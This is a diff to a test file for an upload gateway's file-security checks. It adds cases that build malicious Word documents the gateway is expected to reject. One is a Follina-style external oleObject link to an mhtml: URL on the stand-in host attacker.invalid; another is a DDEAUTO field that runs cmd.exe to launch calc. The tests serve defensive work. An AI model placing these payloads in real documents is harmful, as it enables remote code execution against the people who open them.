@@ -2,7 +2,17 @@
 // gateway keeps answering, and nothing is left behind (no row, no stored object, no upload).
 import { makeForm, makeSite, testDriverName } from '@intake/shared/test';
 import { startGateway } from './index.js';
-import { EXECUTABLE_HEADS, docm, lyingSizeBomb, nestedZipBomb, rawZip, sharedLocalHeaderZip } from './test/archives.js';
+import {
+  EXECUTABLE_HEADS,
+  complexField,
+  docm,
+  docxWithBody,
+  docxWithExternalLink,
+  lyingSizeBomb,
+  nestedZipBomb,
+  rawZip,
+  sharedLocalHeaderZip,
+} from './test/archives.js';
 import { clamdStatus, describeClamd, eicarBytes } from './test/clamd.js';
 import { footprint, send, startTestGateway, withConfig } from './test/harness.js';
 import { iso9660 } from './test/disk-images.js';
@@ -61,6 +71,18 @@ describe(`file security through the gateway on ${testDriverName()}`, () => {
       'archive_unreadable',
     ],
     ['a macro-enabled document named .docx', 'letter.docx', () => docm(), 'archive_macro'],
+    [
+      'a Follina document (external oleObject, mhtml: target)',
+      'letter.docx',
+      () => docxWithExternalLink('oleObject', 'mhtml:http://attacker.invalid/x.html!x-usc:http://attacker.invalid/x'),
+      'document_active_content',
+    ],
+    [
+      'a DDEAUTO field split over runs',
+      'letter.docx',
+      () => docxWithBody(complexField(['DDE', 'AUTO c:\\windows\\system32\\cmd.exe "/k calc"'])),
+      'document_active_content',
+    ],
     [
       'an executable in a 7z',
       'files.7z',
